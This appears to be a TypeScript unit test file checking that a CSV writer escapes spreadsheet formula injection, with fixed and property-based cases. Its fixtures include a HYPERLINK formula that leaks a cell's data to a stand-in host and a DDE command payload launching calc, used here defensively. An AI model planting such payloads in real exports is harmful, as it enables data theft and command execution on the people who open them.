import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { escapeFormula, toDelimited } from '../../../shared/csv/to-delimited';
import { parseDelimited } from '../../../shared/csv/parse-delimited';
import { asText } from '../../../apps-script/result-writer';

describe('toDelimited: formula injection (OWASP CSV injection)', () => {
  it('cells a spreadsheet would run are written as text with a leading apostrophe', () => {
    const text = toDelimited([
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', '+cmd|\' /C calc\'!A0', '-1+1'],
      ['\tx', '\r=1', 'Acme', ''],
    ]);
    expect(parseDelimited(text).rows).toEqual([
      ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-1+1"],
      ["'\tx", "'\r=1", 'Acme', ''],
    ]);
  });

  it('plain numbers keep their sign; a lone sign or dash is escaped', () => {
    for (const n of ['-1200', '+3.5', '-1,234.50', '-12%', '1e-3', '-0.5', '-.5']) expect(escapeFormula(n)).toBe(n);
    for (const t of ['-', '--', '+', '-1-1', '-1,2', '-A1', '=1', '@x', '-e5']) expect(escapeFormula(t)).toBe(`'${t}`);
    expect(toDelimited([[-5, '-5', '-5+5']])).toBe("-5,-5,'-5+5\r\n");
  });

  it("'keep' writes cells exactly, for text Rapport reads back itself", () => {
    expect(toDelimited([['=1+1', '-']], ',', { formulas: 'keep' })).toBe('=1+1,-\r\n');
  });

  it('property: no written cell starts with = + - @ tab or CR unless it is a plain number, and the escape is only a prefix', () => {
    const cell = fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string({ maxLength: 6 }).map((s) => c + s)), fc.double({ noNaN: true }).map(String));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), fc.constantFrom(',', '\t', ';'), (table, delimiter) => {
        const back = parseDelimited(toDelimited(table, delimiter)).rows;
        // A first cell starting with a BOM is the one thing not kept (decoding drops it).
        fc.pre(!table[0]![0]!.startsWith('\ufeff'));
        for (const [i, row] of back.entries()) {
          for (const [j, c] of row.entries()) {
            const original = table[i]![j]!;
            if (/^[=+\-@\t\r]/.test(c)) expect(c).toMatch(/^[+-]?[\d.,]*\d[\d.,]*(e[+-]?\d+)?%?$/i);
            expect(c === original || c === `'${original}`).toBe(true);
          }
        }
      }),
      { numRuns: 500 },
    );
  });

  it('agrees with the Sheets writer asText on formula-like text', () => {
    for (const t of ['=1', '+1+1', '-1+1', '@A', 'Acme', '=HYPERLINK("x")']) expect(escapeFormula(t)).toBe(asText(t));
  });
});
